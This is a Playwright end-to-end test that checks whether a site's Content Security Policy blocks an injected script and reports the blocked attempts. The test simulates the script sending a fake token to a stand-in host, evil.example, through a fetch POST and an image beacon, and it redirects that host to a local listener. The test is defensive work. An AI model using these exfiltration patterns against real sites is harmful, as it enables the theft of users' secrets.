// A script that got in anyway cannot carry anything out: a fetch and an image to a foreign https origin
// are refused by connect-src and img-src before a byte leaves, and the refusals are reported to
// /api/csp-report. The foreign origin is a local TLS listener that this test's own browser resolves
// evil.example to, so a request that did leave would be seen. Browsers send report-to reports from
// secure pages only, so this browser opens the site over https, through a local TLS front to the suite's
// server (as a production site is served).
import { execFileSync } from 'node:child_process'
import { mkdtempSync, readFileSync, rmSync } from 'node:fs'
import { request as httpRequest } from 'node:http'
import { createServer, type Server } from 'node:https'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { chromium, expect, test } from '@playwright/test'

const FOREIGN = 'evil.example'
let foreign: Server
let front: Server
let arrived: string[] = []
let certDir: string

type LoggedViolation = { directive: string; blocked: string; page: string }

/** The violations the suite's server logged so far (its output goes to E2E_SERVER_LOG, one JSON object a line). */
function serverLogViolations(): LoggedViolation[] {
  return readFileSync(process.env.E2E_SERVER_LOG!, 'utf8')
    .split('\n')
    .filter((line) => line.includes('content security policy violation'))
    .map((line) => (JSON.parse(line) as { csp: LoggedViolation }).csp)
}

const listen = (server: Server) => new Promise<number>((resolve) => server.listen(0, '127.0.0.1', () => resolve((server.address() as AddressInfo).port)))

test.beforeAll(async ({ baseURL }) => {
  // A throwaway self-signed certificate (the test's browser is told to accept it).
  certDir = mkdtempSync(path.join(tmpdir(), 'stardust-csp-cert-'))
  execFileSync('openssl', ['req', '-x509', '-newkey', 'ec', '-pkeyopt', 'ec_paramgen_curve:P-256', '-nodes', '-days', '1', '-subj', `/CN=${FOREIGN}`, '-keyout', path.join(certDir, 'key.pem'), '-out', path.join(certDir, 'cert.pem')], { stdio: 'ignore' })
  const tls = { key: readFileSync(path.join(certDir, 'key.pem')), cert: readFileSync(path.join(certDir, 'cert.pem')) }
  foreign = createServer(tls, (req, res) => {
    arrived.push(`${req.method} ${req.url}`)
    res.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'image/gif' }).end()
  })
  const site = new URL(baseURL!)
  front = createServer(tls, (req, res) => {
    const upstream = httpRequest({ host: site.hostname, port: site.port, path: req.url, method: req.method, headers: req.headers }, (answer) => {
      res.writeHead(answer.statusCode ?? 502, answer.headers)
      answer.pipe(res)
    })
    upstream.once('error', () => res.writeHead(502).end())
    req.pipe(upstream)
  })
  await Promise.all([listen(foreign), listen(front)])
})

test.afterAll(async () => {
  await Promise.all([foreign, front].map((server) => new Promise((resolve) => server.close(resolve))))
  rmSync(certDir, { recursive: true, force: true })
})

test('behavior: a fetch and an image to a foreign https origin carry nothing out, and CSP reports arrive', async () => {
  test.setTimeout(120_000)
  const foreignPort = (foreign.address() as AddressInfo).port
  const frontUrl = `https://127.0.0.1:${(front.address() as AddressInfo).port}`
  const browser = await chromium.launch({
    // Debian's full Chromium (CI installs it beside the headless shell): the headless shell queues
    // Reporting API reports but never sends them.
    executablePath: '/usr/bin/chromium',
    args: [
      '--no-sandbox',
      '--disable-gpu',
      '--no-first-run',
      `--host-resolver-rules=MAP ${FOREIGN} 127.0.0.1:${foreignPort}, MAP * ~NOTFOUND, EXCLUDE 127.0.0.1, EXCLUDE localhost`,
      '--ignore-certificate-errors',
      // The Reporting API sends queued reports within seconds instead of a minute.
      '--short-reporting-delay',
    ],
  })
  try {
    const page = await browser.newPage()
    const violations: string[] = []
    await page.exposeFunction('__cspViolation', (line: string) => violations.push(line))
    await page.addInitScript(() =>
      document.addEventListener('securitypolicyviolation', (event) =>
        (window as unknown as { __cspViolation: (line: string) => void }).__cspViolation(`${event.effectiveDirective} ${event.blockedURI}`),
      ),
    )
    // The listener does answer this browser when a page may reach it (a top-level load): the refusals
    // below are the policy's, not a dead address.
    await page.goto(`https://${FOREIGN}/control`)
    expect(arrived).toContain('GET /control')
    await page.goto('about:blank')
    arrived = []

    await page.goto(`${frontUrl}/terms-of-use`)
    const outcome = await page.evaluate(async (host) => {
      const fetched = await fetch(`https://${host}/collect?secret=lifted-token`, { method: 'POST', body: 'lifted-token', mode: 'no-cors' }).then(
        () => 'sent',
        () => 'refused',
      )
      const image = new Image()
      const loaded = await new Promise((resolve) => {
        image.onload = () => resolve('loaded')
        image.onerror = () => resolve('refused')
        image.src = `https://${host}/pixel.gif?secret=lifted-token`
      })
      return { fetched, loaded }
    }, FOREIGN)
    expect(outcome).toEqual({ fetched: 'refused', loaded: 'refused' })
    await expect.poll(() => [...violations].sort()).toEqual([`connect-src https://${FOREIGN}/collect?secret=lifted-token`, `img-src https://${FOREIGN}/pixel.gif?secret=lifted-token`])
    // The browser reported both to /api/csp-report (report-to: its reporting service sends them, not the
    // page), and the site logged them: the page and the foreign host, never the query that held the secret.
    await expect
      .poll(() => serverLogViolations().filter((line) => line.page === '/terms-of-use' && line.blocked === FOREIGN).map((line) => line.directive).sort(), { timeout: 90_000 })
      .toEqual(['connect-src', 'img-src'])
    expect(readFileSync(process.env.E2E_SERVER_LOG!, 'utf8')).not.toContain('lifted-token')
    expect(arrived).toEqual([])
  } finally {
    await browser.close()
  }
})
